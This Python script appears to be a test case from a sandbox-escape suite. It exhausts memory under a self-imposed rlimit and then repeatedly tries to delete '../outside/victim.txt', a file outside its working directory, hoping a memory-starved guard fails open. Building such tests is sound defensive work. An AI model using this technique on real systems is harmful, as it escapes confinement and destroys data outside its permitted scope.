# The deed is done when there is hardly memory left to think about it.
# damage: deleted
# needs: linux
import os
import resource

unlink, victim = os.unlink, b"../outside/victim.txt"
with open("/proc/self/statm") as file:
    used = int(file.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (used + (32 << 20), resource.RLIM_INFINITY))
held = []
size = 8 << 20
while size > 16:
    try:
        held.append(bytearray(size))
    except MemoryError:
        size //= 2
while held:
    try:
        unlink(victim)
    except (MemoryError, FileNotFoundError):
        pass
    del held[-1:]
